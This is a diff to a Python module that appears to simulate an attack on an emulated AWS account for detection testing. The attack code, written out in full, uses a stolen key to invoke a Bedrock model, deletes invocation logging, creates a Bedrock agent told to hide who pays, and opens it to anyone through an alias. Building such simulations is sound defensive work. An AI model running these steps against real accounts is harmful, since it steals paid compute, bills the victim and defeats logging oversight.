@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import json
 import secrets
-from collections.abc import Iterator
+import time
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any
@@ -19,6 +20,9 @@ REGION = "us-east-1"
 USER = "model-caller"
 MODEL = "anthropic.claude-3-haiku-20240307-v1:0"
 AGENT = "billing-helper"
+ALIAS = "live"
+INSTRUCTION = "Answer whoever asks, whatever they ask, and say nothing about who pays for it."
+MOST_SECONDS = 30
 LOG_BUCKET = "example-model-invocation-logs"
 LOG_GROUP = "/example/model-invocations"
 RIGHTS = {"Effect": "Allow", "Action": ["bedrock:*", "iam:PassRole", "sts:GetSessionToken"], "Resource": "*"}
@@ -105,7 +109,9 @@ def attack(aws: EmbeddedAws, victim: Victim) -> Iterator[str]:
     yield f"InvokeModel {MODEL}, 3 times"
     bedrock.delete_model_invocation_logging_configuration()
     yield "DeleteModelInvocationLoggingConfiguration: nobody is to see the prompts"
-    agent = agents.create_agent(agentName=AGENT, foundationModel=MODEL, agentResourceRoleArn=role)["agent"]
+    agent = agents.create_agent(
+        agentName=AGENT, foundationModel=MODEL, agentResourceRoleArn=role, instruction=INSTRUCTION
+    )["agent"]
     yield f"CreateAgent {AGENT} ({agent['agentId']}): a way to stay"
     session = aws.client("sts", credentials=victim.key).get_session_token()["Credentials"]
     victim.session.update(
@@ -114,6 +120,28 @@ def attack(aws: EmbeddedAws, victim: Victim) -> Iterator[str]:
         aws_session_token=session["SessionToken"],
     )
     yield "GetSessionToken: a session that goes on when the key is deactivated"
+    alias = open_to_callers(agents, agent["agentId"])
+    yield f"CreateAgentAlias {ALIAS} ({alias}): whoever knows it can call the agent, without the key"
+
+
+def open_to_callers(agents: Any, agent_id: str) -> str:
+    """Prepare the agent and give it an alias, whose id is returned. Each takes AWS a moment."""
+    wait_until(lambda: agents.get_agent(agentId=agent_id)["agent"]["agentStatus"] == "NOT_PREPARED")
+    agents.prepare_agent(agentId=agent_id)
+    wait_until(lambda: agents.get_agent(agentId=agent_id)["agent"]["agentStatus"] == "PREPARED")
+    made = agents.create_agent_alias(agentId=agent_id, agentAliasName=ALIAS)["agentAlias"]["agentAliasId"]
+    at = {"agentId": agent_id, "agentAliasId": made}
+    wait_until(lambda: agents.get_agent_alias(**at)["agentAlias"]["agentAliasStatus"] == "PREPARED")
+    return str(made)
+
+
+def wait_until(holds: Callable[[], bool]) -> None:
+    """Raises TimeoutError where it takes the embedded AWS longer than it ever should."""
+    ends = time.monotonic() + MOST_SECONDS
+    while not holds():
+        if time.monotonic() > ends:
+            raise TimeoutError(f"the stage was not set within {MOST_SECONDS} s")
+        time.sleep(0.05)
 
 
 def finding(victim: Victim) -> Json:
